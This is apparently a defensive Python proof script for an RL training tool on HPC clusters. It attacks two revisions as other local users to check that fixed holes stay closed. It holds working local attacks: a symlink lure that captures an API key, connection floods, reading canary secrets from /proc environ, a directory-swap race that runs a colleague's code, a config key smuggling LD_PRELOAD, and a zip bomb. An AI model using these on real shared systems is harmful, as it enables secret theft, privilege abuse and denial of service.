#!/usr/bin/env python3
"""Attack complete runs and commands of two revisions as other users, and print what each attack achieved.

    tools/bench/proofs.py --before ../before --json > docs/measurements/proofs.json     # needs root; about six minutes

Runs and commands are those of user 47001; the stranger is user 65534, the colleague user 47002 of a common group. Items
are those of the holes found in 2017b16; `thief.py` measures item 1. Items 2, 7 and 8 attack one RL run of each
revision. Exits with 1 if an attack succeeds in this checkout.
"""

from __future__ import annotations

import argparse
import contextlib
import fcntl
import os
import resource
import shutil
import socket
import subprocess
import sys
import tempfile
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import httpx
import psutil
import yaml

sys.path.insert(0, str(Path(__file__).resolve().parent))
from machine import ROOT, conclude
from thief import VICTIM, Victim, make_models

from primerl_hpc.common.files import read_json, read_jsonl, write_json
from primerl_hpc.common.waiting import wait_until
from primerl_hpc.run.rundir import RunDir
from tests.support.flood import CARELESS, flood
from tests.support.runs import process_of
from tests.support.stranger import NOBODY, as_stranger, run_in_child

COLLEAGUE, GROUP = 47002, 47100
LIMIT_S = 300.0
NUM_CONNECTIONS, HOLD_S, NUM_REQUESTS = 20_000, 10.0, 100
CANARIES = {
    "MY_LAB_NOTES": "x",
    "AWS_SECRET_ACCESS_KEY": "a",
    "HF_TOKEN": "h",
    "WANDB_API_KEY": "w",
    "DB_PASS": "d",
}
ROLES = ("trainer-0", "orchestrator-0", "inference-0", "router-0", "env_server-0")
SETTINGS = (
    "warmup=null", "max_steps=2000", "environments.eval=[]", "rollouts.batch_size=16", "rollouts.group_size=4",
)  # fmt: skip
LETTERS = "Ab1Cd2Ef3Gh4Ij5Kl6Mn7Op8Qr9St0Uv1Wx2Yz3Ab4"
SECRETS = [f"{name}=hunter2x" for name in ("DB_PASS", "PGPASS", "MYPW", "OPTS=--token")]
SECRETS += [f"X={form}{LETTERS}" for form in ("wandb_v1_", "pit_", "nvapi-", "ya29.")]
SECRETS += [
    f"X=AIza{LETTERS[:35]}",
    f"X=r8_{LETTERS[:37]}",
    f"X=sk_live_{LETTERS[:24]}",
    "X=0123456789abcdef0123456789abcdef01234567",
]
TOML = r"""
"x\nenv: {LD_PRELOAD: /tmp/evil.so}\n#" = 1
max_steps = 10
[model]
name = "Qwen/Qwen3-0.6B"
[[orchestrator.env]]
id = "reverse-text"
"""
WHEEL = """
import io, zipfile
from primerl_hpc.envs.hub import check_interface
wheel = io.BytesIO()
with zipfile.ZipFile(wheel, "w", zipfile.ZIP_DEFLATED) as archive:
    archive.writestr("x/data.bin", b"verifiers.v1")
    archive.writestr("x/__init__.py", bytes(1 << 30))
check_interface("owner/x", wheel.getvalue())
"""
REQUEST = b"POST /v1/models HTTP/1.1\r\nHost: a\r\nContent-Length: 2\r\nConnection: close\r\n%s\r\n\r\nxx"
Result = tuple[str, str, bool]
"""Command, result, and whether the attack succeeded."""


class Attacks:
    """The attacks on one checkout; each returns its result."""

    def __init__(self, folder: Path, checkout: Path) -> None:
        self.folder, self.checkout = folder, checkout
        self.victim = Victim(folder, checkout)

    def all(self) -> dict[tuple[int, str], Result]:
        found: dict[tuple[int, str], Result] = {}
        with self.run() as run:
            found[2, "chat on a colleague's directory"] = self.chat(run)
            for kind in ("idle", "half handshakes"):
                found[7, f"{NUM_CONNECTIONS:,} connections, {kind}"] = self.flood(run, kind)
            for what in (b"Authorization: Bearer \xff", b"Content-Encoding: br"):
                found[7, f"{NUM_REQUESTS} requests, {ascii(what)[2:-1]}"] = self.malformed(run, what)
            found[8, "variables of the submitting shell in roles"] = self.variables(run)
            found[8, "interception server"] = self.tools(run)
        (
            found[3, "run directory in a folder of the group"],
            found[3, "directory replaced while the job waits"],
        ) = self.swap()
        found[4, "temporary folder created between two guards"] = self.race()
        found[5, "secrets in variables"] = self.secrets()
        found[6, "key with line breaks"] = self.import_config()
        found[8, "a folder renamed to that of an ended job's bundle"] = self.bundle()
        found[8, "wheel of 1 MiB with 1 GiB of code"] = self.wheel()
        return found

    def output(self, *words: str, **options: Any) -> tuple[int, str]:
        """Return the exit code and the output of a command of the victim."""
        options = {"stdout": subprocess.PIPE, "stderr": subprocess.STDOUT, **options}
        process = self.victim.start(*words, **options)
        text, _ = process.communicate(timeout=LIMIT_S)
        return process.returncode, text

    def command(self, *words: str, **options: Any) -> tuple[int, str]:
        return self.output("-m", "primerl_hpc", *words, **options)

    def last(self, text: str) -> str:
        """Return the last line without folders of this machine."""
        line = (text.strip().splitlines() or [""])[-1]
        return line.replace(str(self.folder), "FOLDER").replace(str(self.checkout), "CHECKOUT")[:400]

    # -- one complete run --------------------------------------------------------------------------
    @contextlib.contextmanager
    def run(self) -> Iterator[RunDir]:
        run = RunDir(self.folder / "runs" / "live")
        words = self.victim.submit("reverse_text/tiny", run.root, SETTINGS)
        code, text = self.output(*words, env=CANARIES)
        assert code == 0, text
        try:
            wait_until(lambda: num_steps(run) >= 2, what="two steps of the run", timeout_s=LIMIT_S)
            yield run
        finally:
            self.command("cancel", "--now", "--wait", str(run.root))

    def chat(self, run: RunDir) -> Result:
        lure = RunDir(self.folder / "lure")
        lure.keys(1).parent.mkdir(parents=True)
        lure.keys(1).symlink_to(run.keys(1))
        shutil.copy(run.plan, lure.plan)
        write_json(lure.state, {"attempt": 1, "state": "running", "phase": "main"})
        with socket.create_server(("127.0.0.1", 0)) as listener:
            url = f"http://127.0.0.1:{listener.getsockname()[1]}"
            endpoint = {"process": "router-0", "url": url, "host": socket.gethostname(), "pid": 1}
            write_json(lure.endpoint("router-0"), {**endpoint, "attempt": 1, "incarnation": 0, "model": "m"})
            for path in (lure.root, *lure.root.rglob("*")):
                os.chown(path, COLLEAGUE, COLLEAGUE, follow_symlinks=False)
                if not path.is_symlink():
                    path.chmod(0o755 if path.is_dir() else 0o644)
            words = ("-m", "primerl_hpc", "chat", str(lure.root), "--prompt", "secret")
            chat = self.victim.start(*words, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
            request = as_stranger(lambda: receive(listener), COLLEAGUE)
        text, _ = chat.communicate(timeout=LIMIT_S)
        key = (run.keys(1) / "api_key").read_text().strip()
        headers = {"Authorization": f"Bearer {key if key in request else 'x'}"}
        url = f"{read_json(run.endpoint('inference-0'))['url']}/primerl/state"
        status = as_stranger(lambda: httpx.get(url, headers=headers, verify=False).status_code, COLLEAGUE)
        what = "the key of the own run" if key in request else f"{len(request)} bytes"
        result = f"he received {what}, and the engine answered him with {status}; {self.last(text)}"
        return "a complete run; chat DIR --prompt secret", result, key in request

    def flood(self, run: RunDir, kind: str) -> Result:
        router = process_of(run.root, "router-0")
        memory, before, most, files = router.memory_info().rss, num_steps(run), 0, 0
        with flood(port_of(run, "router-0"), kind, NUM_CONNECTIONS):
            until = time.monotonic() + HOLD_S
            while time.monotonic() < until:
                most = max(most, router.memory_info().rss - memory)
                files = max(files, router.num_fds())
                time.sleep(0.1)
        result = (
            f"router: {most >> 20} MiB more, {files:,} descriptors; {num_steps(run) - before} steps meanwhile"
        )
        return "a complete run; connections to its router", result, most > 100 << 20

    def malformed(self, run: RunDir, header: bytes) -> Result:
        port, before = port_of(run, "router-0"), len(router_log(run))

        def send() -> None:
            for _ in range(NUM_REQUESTS):
                with (
                    contextlib.suppress(OSError),
                    socket.create_connection(("127.0.0.1", port), 10) as connection,
                ):
                    channel = CARELESS.wrap_socket(connection)
                    channel.sendall(REQUEST % header)
                    while channel.recv(65536):
                        pass

        as_stranger(send)
        added = router_log(run)[before:]
        count = added.count("Traceback")
        return (
            "a complete run; requests to its router",
            f"{count} tracebacks, {len(added):,} bytes of log",
            count > 0,
        )

    def variables(self, run: RunDir) -> Result:
        found = {}
        for name in ROLES:
            environment = process_of(run.root, name).environ()
            found[name] = len(CANARIES.keys() & environment.keys())
        result = ", ".join(f"{name} {count}" for name, count in found.items())
        return "a complete run; /proc/PID/environ", f"of {len(CANARIES)}: {result}", any(found.values())

    def tools(self, run: RunDir) -> Result:
        server, zmq_port = process_of(run.root, "env_server-0"), port_of(run, "env_server-0")
        sockets = [each.net_connections(kind="tcp") for each in (server, *server.children(recursive=True))]
        ports = {each.laddr.port for own in sockets for each in own if each.status == psutil.CONN_LISTEN}
        answers = [as_stranger(lambda port=port: visit(port)) for port in ports - {zmq_port}]
        shown = sorted(answer.split(b"\r\n")[0].decode() or "closed" for answer in answers)
        return "a complete run; GET /mcp", ", ".join(shown), any(answers)

    # -- commands ----------------------------------------------------------------------------------
    def swap(self) -> tuple[Result, Result]:
        """The colleague replaces the run directory after SLURM copied the job's script."""
        project, script, mark = (self.folder / name for name in ("project", "script", "ran"))
        project.mkdir()
        os.chown(project, VICTIM, GROUP)
        project.chmod(0o2775)
        run, options = project / "run", {"groups": [GROUP], "umask": 0o002}
        words = self.victim.submit("sft.yaml", run, ("max_steps=1", "sft.batch_size=16"), "--dry-run")
        code, text = self.output(*words, **options)
        if is_refused := code != 0:
            self.output(*words, "--allow-shared-parent", **options)
        what = f"submit{' --allow-shared-parent' * is_refused} --run-dir PROJECT/run"
        accepted = (
            what.replace(" --allow-shared-parent", ""),
            f"exit code {code}; {self.last(text)}",
            not is_refused,
        )
        shutil.copy(run / "launch" / "job.sbatch", script)
        mark.touch()
        mark.chmod(0o666)

        def replace() -> None:
            run.rename(project / "other")
            package = run / "code" / "1" / "primerl_hpc"
            (package / "runtime").mkdir(parents=True)
            for path in (package, package / "runtime"):
                (path / "__init__.py").touch()
            code = f"import os; open({str(mark)!r}, 'a').write(f'ran as {{os.getuid()}}')"
            (package / "runtime" / "supervisor.py").write_text(code)

        def become() -> None:
            os.setgroups([GROUP])
            os.setgid(GROUP)
            os.setuid(COLLEAGUE)

        run_in_child(replace, become)
        code, text = self.output(str(script), program="bash", cwd=self.folder / "home")
        ran = mark.read_text()
        result = f"exit code {code}; his code {ran or 'did not run'}; {self.last(text)}"
        return accepted, (f"{what}, then the job's script", result, bool(ran))

    def race(self) -> Result:
        """A guard waits for the lock of one that deletes the folder; before it gets it, a stranger creates the name."""
        base = self.folder / "tmp"
        folder, lock = base / ".p0123456789ab", base / ".p0123456789ab" / ".lock"
        folder.mkdir(parents=True, mode=0o700)
        base.chmod(0o1777)
        lock.touch()
        for path in (folder, lock):
            os.chown(path, VICTIM, VICTIM)
        with lock.open() as held:
            fcntl.flock(held, fcntl.LOCK_EX)  # as a guard that has begun to delete it
            show = "import os; print('owner of TMPDIR:', os.stat(os.environ['TMPDIR']).st_uid)"
            words = ("-P", "-m", "primerl_hpc.runtime.steps.guard", "--", sys.executable, "-c", show)
            environment = {"PRIMERL_PRIVATE_TMP": folder.name, "TMPDIR": str(base)}
            guard = self.victim.start(*words, env=environment, stdout=subprocess.PIPE)
            files = Path(f"/proc/{guard.pid}/fd")
            wait_until(
                lambda: str(lock) in map(os.path.realpath, files.iterdir()), what="a guard", timeout_s=LIMIT_S
            )
            shutil.rmtree(folder)
            as_stranger(lambda: (folder.mkdir(), lock.touch(), folder.chmod(0o777), lock.chmod(0o666))[:0])
        text, _ = guard.communicate(timeout=LIMIT_S)
        return "runtime.steps.guard", self.last(text), str(NOBODY) in text

    def secrets(self) -> Result:
        run, accepted = self.folder / "runs" / "secrets", []
        for secret in SECRETS:
            code, _ = self.output(*self.victim.submit("sft.yaml", run, (f"env.{secret}",), "--dry-run"))
            accepted += [secret.removesuffix(LETTERS)[:12]] if code == 0 else []
            shutil.rmtree(run, ignore_errors=True)
        result = f"{len(accepted)} of {len(SECRETS)} accepted{': ' * bool(accepted)}{', '.join(accepted)}"
        return "submit --dry-run --set env.NAME=VALUE", result, bool(accepted)

    def import_config(self) -> Result:
        (self.folder / "imp.toml").write_text(TOML)
        _, text = self.command("import-config", "imp.toml", stderr=subprocess.DEVNULL)
        variables = (yaml.safe_load(text) or {}).get("env")
        return "import-config imp.toml", f"env of the recipe: {variables}", bool(variables)

    def bundle(self) -> Result:
        node, squeue = self.folder / "node", self.folder / "bin" / "squeue"
        paper, named = node / "results" / "paper", node / f"primerl-bundle-{VICTIM}-17-0123456789abcdef"
        for folder in (paper.parent, squeue.parent):
            folder.mkdir(parents=True)
        paper.touch()
        for path in (paper.parent, paper):
            os.chown(path, VICTIM, VICTIM)
        node.chmod(0o777)
        squeue.write_text("#!/bin/sh\necho CANCELLED\n")
        squeue.chmod(0o755)
        as_stranger(lambda: paper.parent.rename(named))
        script = self.checkout / "tests" / "golden" / "setup" / "unpack-bundle.sh"
        environment = {"PATH": f"{squeue.parent}:{os.environ['PATH']}", "SLURM_JOB_ID": "18"}
        _, text = self.output(str(script), str(node / "env"), program="bash", env=environment)
        is_kept = (named / "paper").exists()
        return "unpack-bundle.sh", f"{'kept' if is_kept else 'deleted'}; {self.last(text)}", not is_kept

    def wheel(self) -> Result:
        code, text = self.output("-c", WHEEL)
        return "envs.hub.check_interface", self.last(text) if code else "read completely", code == 0


def receive(listener: socket.socket) -> str:
    """Return the request that a client sends within half a minute."""
    listener.settimeout(30)
    try:
        connection, _ = listener.accept()
    except TimeoutError:
        return ""
    with connection:
        data = connection.recv(65536).decode(errors="replace")
        connection.sendall(b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
    return data


def visit(port: int) -> bytes:
    with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port), 10) as connection:
        connection.sendall(b"GET /mcp HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n")
        return connection.recv(1000)
    return b""


def num_steps(run: RunDir) -> int:
    return len([*read_jsonl(run.metrics("orchestrator"))]) if run.metrics("orchestrator").exists() else 0


def port_of(run: RunDir, process: str) -> int:
    return urlsplit(read_json(run.endpoint(process))["url"]).port or 0


def router_log(run: RunDir) -> str:
    return "".join(path.read_text(errors="replace") for path in run.attempt_logs(1).rglob("*router*"))


def attack(checkout: Path) -> dict[tuple[int, str], Result]:
    with tempfile.TemporaryDirectory(prefix="bench-proofs-") as name:
        folder = Path(name)
        folder.chmod(0o755)
        make_models(folder, checkout)
        return Attacks(folder, checkout).all()


def main() -> int:
    parser = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
    )
    parser.add_argument("--before", type=Path, required=True, help="checkout of the revision to compare with")
    parser.add_argument("--json", action="store_true", dest="as_json")
    options = parser.parse_args()
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    before, now = attack(options.before.resolve()), attack(ROOT)
    rows = [
        {"item": item, "attack": what, "command": now[item, what][0], "before": before[item, what][1]}
        | {"now": now[item, what][1]}
        for item, what in sorted(now)
    ]
    wrong = [
        f"{item}, {what}: {result}"
        for (item, what), (_, result, has_succeeded) in now.items()
        if has_succeeded
    ]
    return conclude(
        "Attacks of other users on complete runs and commands", rows, wrong, as_json=options.as_json
    )


if __name__ == "__main__":
    sys.exit(main())
